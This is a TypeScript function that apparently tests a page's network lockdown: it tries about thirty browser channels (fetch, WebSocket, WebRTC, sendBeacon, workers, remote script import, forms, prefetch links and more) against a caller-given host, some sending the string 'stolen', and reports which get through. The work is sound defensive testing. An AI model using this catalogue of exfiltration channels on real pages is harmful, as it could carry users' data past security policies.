/**
 * Runs in a page: tries every way out to the network that a page has, and waits for each to end. What
 * ends otherwise than by failing has perhaps got out; whether it did is for the one outside to say.
 */
export async function leak({
  host,
  udp,
  url,
}: {
  readonly host: string;
  readonly udp: string;
  readonly url: string;
}): Promise<Record<string, 'failed' | 'worked'>> {
  const element = (tag: string, set: Record<string, string>): Promise<unknown> =>
    new Promise((resolve, reject) => {
      const made = document.createElement(tag);
      made.onload = resolve;
      made.onerror = () => reject(new Error(`${tag} failed`));
      document.addEventListener('securitypolicyviolation', () => reject(new Error(`${tag} is forbidden`)), {
        once: true,
      });
      for (const [name, value] of Object.entries(set)) made.setAttribute(name, value);
      document.body.append(made);
    });
  const opened = (source: EventTarget, event: string): Promise<unknown> =>
    new Promise((resolve, reject) => {
      source.addEventListener(event, resolve);
      source.addEventListener('error', () => reject(new Error('failed')));
    });
  const forbidden = (attempt: () => void): Promise<unknown> =>
    new Promise((_resolve, reject) => {
      document.addEventListener('securitypolicyviolation', () => reject(new Error('forbidden')), {
        once: true,
      });
      attempt();
    });
  const submitted = (method: string): void => {
    const form = document.createElement('form');
    Object.assign(form, { action: `${url}form`, method });
    document.body.append(form);
    form.submit();
  };
  const connection = async (): Promise<unknown> => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${udp}` },
        { urls: `turn:${host}?transport=tcp`, username: 'stolen', credential: 'stolen' },
      ],
    });
    peer.createDataChannel('stolen');
    const found: string[] = [];
    const gathered = new Promise<void>((resolve) => {
      peer.onicecandidate = ({ candidate }) => (candidate ? found.push(candidate.candidate) : resolve());
    });
    await peer.setLocalDescription(await peer.createOffer());
    await gathered;
    peer.close();
    if (found.some((each) => each !== '')) return found;
    throw new Error('no candidate');
  };

  const ways: Record<string, () => Promise<unknown>> = {
    fetch: () => fetch(url),
    'fetch without CORS': () =>
      fetch(url, { mode: 'no-cors', method: 'POST', body: 'stolen', keepalive: true }),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
      return opened(request, 'load');
    },
    WebSocket: () => opened(new WebSocket(`ws://${host}/`), 'open'),
    EventSource: () => opened(new EventSource(url), 'open'),
    WebTransport: () => new WebTransport(`https://${host}/`).ready,
    sendBeacon: () => forbidden(() => navigator.sendBeacon(url, 'stolen')),
    WebRTC: connection,
    import: () => import(/* @vite-ignore */ `${url}x.js`),
    worker: () => opened(new Worker(`${url}x.js`), 'message'),
    'shared worker': () => opened(new SharedWorker(`${url}x.js`), 'message'),
    'service worker': () => navigator.serviceWorker.register(`${url}x.js`),
    image: () => element('img', { src: url }),
    script: () => element('script', { src: url }),
    module: () => element('script', { src: url, type: 'module' }),
    style: () => element('link', { rel: 'stylesheet', href: url }),
    icon: () => element('link', { rel: 'icon', href: url }),
    preload: () => element('link', { rel: 'preload', as: 'image', href: url }),
    modulepreload: () => element('link', { rel: 'modulepreload', href: url }),
    prefetch: () => element('link', { rel: 'prefetch', href: url }),
    frame: () =>
      forbidden(() => document.body.append(Object.assign(document.createElement('iframe'), { src: url }))),
    object: () => element('object', { data: url }),
    embed: () => element('embed', { src: url }),
    video: () => element('video', { src: url }),
    audio: () => element('audio', { src: url }),
    track: () => element('video', { poster: url }),
    'image of SVG': () => {
      const svg = 'http://www.w3.org/2000/svg';
      const image = document.createElementNS(svg, 'image');
      image.setAttribute('href', url);
      document.body.append(document.createElementNS(svg, 'svg'));
      return forbidden(() => document.body.lastElementChild?.append(image));
    },
    font: () => new FontFace('stolen', `url(${url}x.woff2)`).load(),
    'background by script': () =>
      forbidden(() => (document.body.style.backgroundImage = `url(${url}background)`)),
    'form by GET': () => forbidden(() => submitted('get')),
    'form by POST': () => forbidden(() => submitted('post')),
  };

  const outcomes: Record<string, 'failed' | 'worked'> = {};
  // These tell nobody how they end; what they do would be done by the time that all others have.
  for (const rel of ['dns-prefetch', 'preconnect', 'prerender']) {
    for (const href of [url, '//looked-up.example.test']) {
      document.head.append(Object.assign(document.createElement('link'), { rel, href }));
    }
  }
  const before = new Set(document.body.children);
  for (const [name, attempt] of Object.entries(ways)) {
    try {
      await attempt();
      outcomes[name] = 'worked';
    } catch {
      outcomes[name] = 'failed';
    }
  }
  for (const left of [...document.body.children]) if (!before.has(left)) left.remove();
  document.body.removeAttribute('style');
  return outcomes;
}
